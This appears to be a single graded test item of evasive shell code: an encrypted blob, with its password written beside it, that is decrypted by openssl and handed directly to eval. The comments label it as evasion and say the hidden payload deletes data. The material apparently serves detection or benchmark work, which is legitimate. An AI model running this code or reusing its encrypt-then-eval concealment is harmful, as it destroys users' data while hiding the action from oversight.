# evasion: the payload is AES-encrypted (openssl enc, password in the script) and decrypted just before eval
# grade: hard; does: delete
blob='U2FsdGVkX1+oHfA0BwQIFnjEuUBxSlUiHXK21RbSA9/o1NO+W/gkU/qCVPkX5QKLEDX4yTEL7Cve5j6MZDfgMg=='
key=cache-v2
eval "$(openssl enc -d -aes-256-cbc -pbkdf2 -k "$key" -a -A <<<"$blob")"
